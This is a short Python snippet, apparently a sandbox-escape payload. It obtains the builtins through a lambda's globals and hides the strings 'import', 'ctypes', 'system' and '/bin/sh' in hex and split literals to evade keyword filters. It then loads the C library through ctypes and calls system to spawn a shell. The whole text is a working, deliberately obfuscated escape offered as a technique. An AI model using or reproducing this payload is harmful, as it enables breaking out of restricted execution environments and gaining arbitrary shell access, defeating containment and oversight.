# technique: load the C library through a foreign-function module named by hex, call its shell function directly
imp = (lambda: 0).__globals__["__bu" + "iltins__"]
imp = imp.__dict__ if hasattr(imp, "__dict__") else imp
ff = imp["__" + bytes.fromhex("696d706f7274").decode() + "__"](bytes.fromhex("6374797065").decode() + "s")
libc = getattr(ff, "CD" + "LL")(None)
fn = getattr(libc, bytes.fromhex("73797374656d").decode())
fn(bytes.fromhex("2f62696e2f7368"))
